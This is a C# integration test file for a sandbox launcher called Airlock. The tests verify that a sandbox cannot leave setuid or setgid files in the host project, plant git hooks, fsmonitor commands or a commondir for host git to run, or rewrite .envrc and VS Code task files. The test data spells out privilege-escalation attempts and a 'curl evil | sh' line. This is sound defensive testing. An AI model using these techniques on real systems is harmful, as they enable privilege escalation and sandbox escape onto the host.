using Airlock.Launcher.IntegrationTests.Infrastructure;

namespace Airlock.Launcher.IntegrationTests;

/// <summary>
/// Issue 10, item 6: the project is the host's, and the host runs some of what is in it. A sandbox (here run by root,
/// the worst case) must not leave a file with a setuid or setgid bit there, must not make git on the host run its
/// commands, must not rewrite the files host tools take commands from, and gets a project that is the person's home or
/// holds Airlock's state only with a yes.
/// </summary>
public sealed class WallProjectTests(SharedNamespaces shared)
{
    private const UnixFileMode SetIdBits = UnixFileMode.SetUser | UnixFileMode.SetGroup;

    /// <summary>Every way to get the bits onto a file that was found; syscall numbers are x86_64's.</summary>
    private const string SetIdAttempts = """
        set +e
        cp /bin/bash rootbash; chmod u+s rootbash; chmod 4755 rootbash; chmod g+s rootbash
        install -m 4755 /bin/bash installed
        perl -e 'use Fcntl; sysopen(F, "opened", O_CREAT|O_WRONLY, 04755)'
        perl -e '$p = "tmpfile-dir"; mkdir $p; syscall(2, $p, 020200002, 04755)'
        perl -e '$p = "made-by-mknod"; syscall(133, $p, 0100000|04755, 0)'
        perl -e '$p = "made-by-mknodat"; syscall(259, -100, $p, 0102755, 0)'
        perl -e 'open(F, ">", "fchmodded"); syscall(91, fileno(F), 06755)'
        perl -e '$p = "rootbash"; syscall(268, -100, $p, 04755); syscall(452, -100, $p, 04755, 0)'
        mkdir -m 2775 setgid-dir
        setuid=$(find / -xdev -perm -4000 -type f 2>/dev/null | head -n 1); echo "copying $setuid"
        cp -p "$setuid" copied-with-mode
        mkdir extracted && tar -cpf - "$setuid" 2>/dev/null | tar -xpf - -C extracted
        ls -lR
        true
        """;

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task No_file_the_sandbox_writes_into_the_project_carries_a_setuid_or_setgid_bit(string engine)
    {
        var ns = await shared.GetAsync(engine);
        await using var ws = Workspace.Sharing(ns);

        var result = (await ws.AirlockAsync(ns.Name, "sh", "-c", SetIdAttempts)).ShouldSucceed();

        result.Stdout.ShouldContain("copying /", Case.Sensitive, "the image has a setuid binary to copy");
        var marked = Directory.EnumerateFileSystemEntries(ws.Project, "*", SearchOption.AllDirectories)
            .Where(p => (File.GetUnixFileMode(p) & SetIdBits) != 0)
            .Select(p => $"{Path.GetRelativePath(ws.Project, p)} {File.GetUnixFileMode(p)}")
            .ToList();
        marked.ShouldBeEmpty($"the host would run these with their owner's or group's rights (root's):\n{result}");
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task Git_on_the_host_runs_nothing_a_sandbox_wrote_into_the_repository(string engine)
    {
        var ns = await shared.GetAsync(engine);
        await using var ws = Workspace.Sharing(ns);
        // Outside the project: only the host can make it (inside, that path is in the sandbox's own /tmp).
        var marker = Path.Combine(ws.Root, "host-ran-it");
        await HostGitAsync(ws, "init", "-q");
        ws.Write("project/README", "hello\n");
        await HostGitAsync(ws, "add", "README");
        await HostGitAsync(ws, "commit", "-q", "-m", "first");
        var configBefore = File.ReadAllText(Path.Combine(ws.Project, ".git", "config"));

        // Every route to a command git runs by itself: the config, a hook, attributes, moving .git away, and a
        // commondir (a second config) that no mount can keep from being created. A commit first: agents commit.
        var attack = $"""
            set +e
            echo change >> README && git -c user.name=agent -c user.email=agent@example.com commit -qam 'made inside'; echo commit-inside=$?
            git config core.fsmonitor 'touch {marker}'; echo config=$?
            printf '[core]\n\tfsmonitor = touch {marker}\n' >> .git/config; echo append=$?
            printf '#!/bin/sh\ntouch {marker}\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo hook=$?
            printf '* filter=evil\n' > .git/info/attributes; echo attributes=$?
            mv .git .git-moved; echo move=$?
            mkdir -p evil && cp -r .git/. evil/ && git config -f evil/config core.fsmonitor 'touch {marker}'
            echo ../evil > .git/commondir; echo commondir=$?
            printf '[core]\n\tfsmonitor = touch {marker}\n' > .git/config.worktree
            true
            """;
        var result = (await ws.AirlockAsync(ns.Name, "sh", "-c", attack)).ShouldSucceed();

        var lines = Engines.Lines(result.Stdout);
        lines.ShouldContain("commit-inside=0", $"agents must still be able to commit:\n{result}");
        foreach (var refused in new[] { "config", "append", "hook", "attributes", "move" })
        {
            lines.ShouldNotContain($"{refused}=0", result.ToString());
        }

        result.Stderr.ShouldContain("commondir", Case.Sensitive, "the planted commondir is reported after the session");
        await HostGitAsync(ws, "status", "--short");
        await HostGitAsync(ws, "commit", "-q", "--allow-empty", "-m", "on the host");
        File.Exists(marker).ShouldBeFalse($"git on the host ran a command the sandbox planted:\n{result}");
        File.ReadAllText(Path.Combine(ws.Project, ".git", "config")).ShouldBe(configBefore);
        File.Exists(Path.Combine(ws.Project, ".git", "commondir")).ShouldBeFalse("the planted commondir is moved aside");
        (await HostGitAsync(ws, "log", "--format=%s")).Stdout.ShouldContain("made inside", Case.Sensitive, "the commit made inside is the host's history");
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task Files_host_tools_take_commands_from_are_read_only_unless_the_namespace_opts_out(string engine)
    {
        await using var ws = Workspace.Create(engine);
        var shared1 = await shared.GetAsync(engine);
        var locked = ws.BorrowNamespace(shared1);
        var opened = ws.BorrowNamespace(shared1, "writableProjectPaths: [.envrc]");
        ws.Write("project/.envrc", "export SAFE=1\n");
        ws.Write("project/.vscode/tasks.json", "{}\n");
        const string Attack = "(echo 'curl evil | sh' >> .envrc) && echo envrc-written; (echo '{\"tasks\":[]}' > .vscode/tasks.json) && echo tasks-written; " +
            "touch .vscode/new.json && echo new-in-vscode-written; mv .envrc .envrc-old && echo envrc-moved; true";

        var refused = (await ws.AirlockAsync(locked, "sh", "-c", Attack)).ShouldSucceed();
        var allowed = (await ws.AirlockAsync(opened, "sh", "-c", "(echo 'export MORE=1' >> .envrc) && echo envrc-written")).ShouldSucceed();

        Engines.Lines(refused.Stdout).ShouldBeEmpty(refused.ToString());
        Engines.Lines(allowed.Stdout).ShouldBe(["envrc-written"], allowed.ToString());
        File.ReadAllText(Path.Combine(ws.Project, ".envrc")).ShouldBe("export SAFE=1\nexport MORE=1\n");
        File.ReadAllText(Path.Combine(ws.Project, ".vscode", "tasks.json")).ShouldBe("{}\n");
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task The_home_directory_as_the_project_is_refused_without_a_yes(string engine)
    {
        await using var ws = Workspace.Create(engine);
        var ns = ws.BorrowNamespace(await shared.GetAsync(engine));
        var before = await StateSnapshot.TakeAsync(ws, ns);

        var refused = await ws.RunAsync([ns, "true"], workingDirectory: ws.Home);

        refused.ShouldBeUserError(ws.Home, "your home directory", "--yes");
        before.ShouldBeUnchangedIn(await StateSnapshot.TakeAsync(ws, ns), "a launch refused for its project");
        (await ws.RunAsync([ns, "--yes", "sh", "-c", "pwd"], workingDirectory: ws.Home)).ShouldSucceed().Stdout.Trim().ShouldBe(ws.Home);
    }

    [Theory]
    [MemberData(nameof(Engines.Both), MemberType = typeof(Engines))]
    public async Task A_project_holding_the_state_directory_needs_a_yes_and_the_sandbox_never_sees_that_directory(string engine)
    {
        await using var ws = Workspace.Create(engine);
        var ns = ws.BorrowNamespace(await shared.GetAsync(engine));
        var config = ws.ReadConfig();
        // The scratch root holds AIRLOCK_HOME (and the home, which a separate HOME keeps out of the question here).
        var elsewhere = new Dictionary<string, string?> { ["HOME"] = Directory.CreateDirectory(Path.Combine(ws.Root, "..", Path.GetFileName(ws.Root) + "-home")).FullName };
        try
        {
            var refused = await ws.RunAsync([ns, "true"], env: elsewhere, workingDirectory: ws.Root);
            var allowed = await ws.RunAsync(
                [ns, "--yes", "sh", "-c", $"ls -A {ws.AirlockHome} | wc -l; (echo 'namespaces: {{}}' > {ws.ConfigFile}) && echo written; true"],
                env: elsewhere, workingDirectory: ws.Root);

            refused.ShouldBeUserError(ws.Root, "Airlock's state directory", "--yes");
            Engines.Lines(allowed.ShouldSucceed().Stdout).ShouldBe(["0"], allowed.ToString());
            ws.ReadConfig().ShouldBe(config);
        }
        finally
        {
            Directory.Delete(elsewhere["HOME"]!, recursive: true);
        }
    }

    /// <summary>The host's own git in the project, with no config of the real user or the system.</summary>
    private static async Task<ProcessResult> HostGitAsync(Workspace ws, params string[] args) =>
        (await ProcessRunner.RunAsync("git", ["-c", "user.name=host", "-c", "user.email=host@example.com", .. args],
            new Dictionary<string, string?> { ["HOME"] = ws.Home, ["GIT_CONFIG_NOSYSTEM"] = "1", ["GIT_DIR"] = null, ["GIT_WORK_TREE"] = null },
            ws.Project)).ShouldSucceed();
}
